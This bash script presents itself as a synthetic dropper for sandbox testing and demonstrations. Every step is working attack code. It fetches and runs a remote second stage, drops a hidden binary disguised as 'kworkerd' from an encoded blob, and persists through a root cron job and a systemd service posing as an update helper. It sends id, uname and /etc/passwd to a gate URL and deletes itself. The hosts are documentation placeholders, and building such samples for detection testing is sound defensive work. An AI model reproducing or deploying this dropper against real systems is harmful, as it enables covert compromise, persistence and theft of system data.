#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# A synthetic dropper for tests and demonstrations: harmless, but it does what droppers do. It only speaks to
# documentation addresses (RFC 5737) and example names. Run it in Belljar, not on your machine.
cd /tmp || exit 1

# 1. download a second stage and run it
curl -fsS -o /tmp/.x11-stage http://update.cdn-assets.example/stage2.bin && chmod +x /tmp/.x11-stage && /tmp/.x11-stage

# 2. drop a program of our own and run it from a hidden place
mkdir -p /var/tmp/.cache
base64 -d <<'BLOB' | gzip -d > /var/tmp/.cache/kworkerd
H4sIAAAAAAACA6t39XFjYmRkgAEmBjsGEC9GUAHMd4CKFzDBlQDFLBhYgCQrkGQD8lmQ1DkwKKDQ
D6DiMJoDSjNC9SGAAgodDXUSjGYQQOhjBbkPKg5zJ4xeA1UOo2H6Ap+WpLAxkA6YGKS4TzMUOjEg
uRubvJ+ns7dCUmpicn6eroGBgSEvFwNDaDC/Buvp9///+/S6qLxw5Ndk2MsM1PKJX4D1KFjUR+WG
R6/sQSCbX9NF5cYOTaDsflBA7wNZY3jJ1fASP6tH64EKK4/O4zu0gGK7QN7x6TwHl1HYAVK6SwhI
eHTeAwvvAFli+A2qfYcyWMdxuMD/s6UTd9iAlPyHi73+x+CTmZedWmSl4JKalJmYp+Dj46JgaKln
qGfOABVJzknMS1coSy0qzszPg8opaBjXpaQmGRqVGgLdrleUn5JYksigV5JaUcKgl5yfm5uaB2QU
ZxSXFJUkJjFQATBCsREstTAqQGkI3xpNvQAanxOqH5YW4OmHES3dQAELGp8fqt8ATZwDmj+csbgX
mZYAYmYs/vKG6lfCoR8GAOWiFmCwAwAA
BLOB
chmod 755 /var/tmp/.cache/kworkerd
/var/tmp/.cache/kworkerd &

# 3. stay: cron and systemd
echo '* * * * * root /var/tmp/.cache/kworkerd' > /etc/cron.d/sysupdate
cat > /etc/systemd/system/sysupdate.service <<'UNIT'
[Unit]
Description=System update helper
[Service]
ExecStart=/var/tmp/.cache/kworkerd
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now sysupdate.service

# 4. look around and tell home
(id; uname -a; cat /etc/passwd) > /var/tmp/.cache/info
curl -fsS -X POST --data-binary @/var/tmp/.cache/info http://203.0.113.66/gate.php

# 5. leave no trace
rm -f -- "$0"
wait
